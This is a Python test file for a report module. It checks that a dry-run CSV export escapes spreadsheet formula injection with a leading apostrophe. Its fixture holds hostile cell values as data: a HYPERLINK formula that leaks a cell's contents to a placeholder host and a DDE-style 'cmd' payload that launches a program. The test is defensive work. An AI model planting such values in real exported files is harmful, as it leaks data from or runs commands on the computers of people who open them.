"""The dry-run CSV a manager opens in Excel or WPS never runs a cell as a formula."""

from __future__ import annotations

import csv
import io

from engine.reports.tabular import CSV_COLUMNS, report_csv


def test_every_text_cell_of_the_preview_csv_is_text_in_a_spreadsheet() -> None:
    hostile = {
        "customer_id": "=1+1",
        "type": "task",
        "recipient": "+86 138 0013 8000",
        "title": '=HYPERLINK("http://x.example/?leak="&B2,"点我")',
        "body": "@SUM(1+1)*cmd|' /C calc'!A0",
        "priority": "-2+3",
        "due_at": "2026-11-26T09:00",
    }
    report = {"playbooks": [{"id": "p", "window": "2026-11-23T09:00", "actions": [hostile]}]}
    rows = list(csv.reader(io.StringIO(report_csv(report).lstrip("\ufeff"))))
    assert rows[0] == list(CSV_COLUMNS)
    cells = dict(zip(rows[0], rows[1], strict=True))
    for column, value in hostile.items():
        if value[0] in "=+-@":
            assert cells[column] == "'" + value, column
    assert cells["due_at"] == "2026-11-26T09:00"
    assert not [c for c in rows[1] if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
